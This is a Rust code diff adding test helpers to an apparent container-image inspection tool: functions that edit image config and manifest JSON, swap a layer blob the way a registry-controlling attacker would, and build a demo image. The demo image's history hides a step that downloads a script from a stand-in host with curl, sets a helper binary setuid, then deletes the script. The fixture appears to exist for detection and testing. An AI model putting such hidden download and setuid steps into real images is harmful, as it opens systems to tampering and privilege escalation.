@@ -473,6 +473,38 @@ impl BuiltImage {
         d
     }
 
+    /// Edit the config JSON; the config digest and manifest follow.
+    pub fn edit_config(&mut self, f: impl FnOnce(&mut Value)) {
+        let mut v: Value = serde_json::from_slice(&self.config).expect("config json");
+        f(&mut v);
+        self.config = serde_json::to_vec(&v).expect("json");
+        self.config_digest = Sha256::of(&self.config);
+        self.edit_manifest(|_| {});
+    }
+
+    /// Edit the manifest JSON (after the config and layer descriptors are
+    /// refreshed from the current config and blobs); the manifest digest follows.
+    pub fn edit_manifest(&mut self, f: impl FnOnce(&mut Value)) {
+        let mut v: Value = serde_json::from_slice(&self.manifest).expect("manifest json");
+        v["config"]["digest"] = json!(self.config_digest.to_string());
+        v["config"]["size"] = json!(self.config.len());
+        for (i, l) in self.layers.iter().enumerate() {
+            v["layers"][i]["digest"] = json!(l.digest.to_string());
+            v["layers"][i]["size"] = json!(l.blob.len());
+        }
+        f(&mut v);
+        self.manifest = serde_json::to_vec(&v).expect("json");
+        self.manifest_digest = Sha256::of(&self.manifest);
+    }
+
+    /// Replace a layer's stored blob (keeping its diff_id), as an attacker
+    /// who controls the registry would; the manifest follows.
+    pub fn replace_layer_blob(&mut self, index: usize, blob: Vec<u8>) {
+        self.layers[index].digest = Sha256::of(&blob);
+        self.layers[index].blob = blob;
+        self.edit_manifest(|_| {});
+    }
+
     /// Every blob of this image: (digest, bytes).
     pub fn blobs(&self) -> Vec<(Sha256, &[u8])> {
         let mut v: Vec<(Sha256, &[u8])> = vec![
@@ -632,4 +664,48 @@ pub fn tar_of(files: &[(String, Vec<u8>)]) -> Vec<u8> {
         b.append(&h, &bytes[..]).expect("in-memory tar");
     }
     b.into_inner().expect("in-memory tar")
+}
+
+/// The demo: a small app image whose history hides a download script.
+pub fn demo_image() -> ImageBuilder {
+    let app_toml = include_bytes!("../examples/demo-app/app.toml");
+    let start = include_bytes!("../examples/demo-app/start.sh");
+    let fetch = include_bytes!("../examples/demo-app/fetch.sh");
+    let helper = include_bytes!("../examples/demo-app/helper.sh");
+    let base = LayerBuilder::new()
+        .created_by("/bin/sh -c #(nop) ADD file:demo-base in /")
+        .dir("etc", 0o755)
+        .file(
+            "etc/os-release",
+            b"NAME=\"Stowaway demo\"\nID=demo\n",
+            0o644,
+        )
+        .dir("app", 0o755)
+        .file("app/app.toml", app_toml, 0o644)
+        .file("app/start.sh", start, 0o755)
+        .dir("usr", 0o755)
+        .dir("usr/local", 0o755)
+        .dir("usr/local/bin", 0o755);
+    let tools = LayerBuilder::new()
+        .created_by("/bin/sh -c curl -fsSL http://downloads.example.invalid/fetch.sh -o /usr/local/bin/fetch.sh && chmod 4755 /usr/local/bin/helper")
+        .file("usr/local/bin/fetch.sh", fetch, 0o755)
+        .file_bytes(b"usr/local/bin/helper", helper, 0o4755, 0, 0);
+    let cleanup = LayerBuilder::new()
+        .created_by("/bin/sh -c rm /usr/local/bin/fetch.sh")
+        .whiteout("usr/local/bin/fetch.sh");
+    ImageBuilder::new()
+        .layer(base)
+        .empty_step("/bin/sh -c #(nop) ENV APP_ENV=demo")
+        .layer(tools)
+        .layer(cleanup)
+        .config("Entrypoint", json!(["/app/start.sh"]))
+        .config(
+            "Env",
+            json!(["PATH=/usr/local/bin:/usr/bin:/bin", "APP_ENV=demo"]),
+        )
+        .config(
+            "Healthcheck",
+            json!({"Test": ["CMD-SHELL", "test -f /app/start.sh"]}),
+        )
+        .tag("demo")
 }
